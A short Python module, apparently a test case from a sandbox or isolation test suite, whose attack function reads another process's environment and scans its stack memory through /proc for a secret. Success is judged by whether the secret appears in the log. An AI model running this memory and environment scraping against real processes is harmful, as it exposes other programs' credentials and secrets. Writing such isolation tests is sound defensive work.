"""Reads the environment and the memory of a process of the same user."""

import re
from contextlib import suppress
from pathlib import Path

from host import SECRET, Host

ENDS = ("ok", None)


def attack(host: Host) -> None:
    folder = Path(f"/proc/{host.victim}")
    with suppress(OSError):
        print((folder / "environ").read_bytes())
    with suppress(OSError), (folder / "mem").open("rb", buffering=0) as memory:
        for line in (folder / "maps").read_text().splitlines():
            if "[stack]" in line:
                start, end = (int(word, 16) for word in re.split("[- ]", line)[:2])
                memory.seek(start)
                print(re.findall(SECRET.encode(), memory.read(end - start)))


def succeeded(host: Host, log: str) -> bool:
    return SECRET in log
